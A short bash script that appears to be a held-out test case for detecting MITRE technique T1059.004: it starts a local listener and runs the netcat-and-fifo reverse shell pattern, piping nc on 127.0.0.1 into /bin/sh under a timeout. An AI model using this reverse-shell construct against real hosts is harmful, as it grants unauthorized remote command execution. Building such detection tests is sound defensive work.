#!/usr/bin/env bash
# attack: T1059.004 OpenBSD netcat (no -e) piped into a shell and back through a fifo
# set: unseen
. "$(dirname "$0")/lib/common.sh"
p=$(listen)
mkfifo "$SW/f"
timeout 10 sh -c "nc 127.0.0.1 $p <'$SW/f' | /bin/sh >'$SW/f' 2>&1" >/dev/null 2>&1
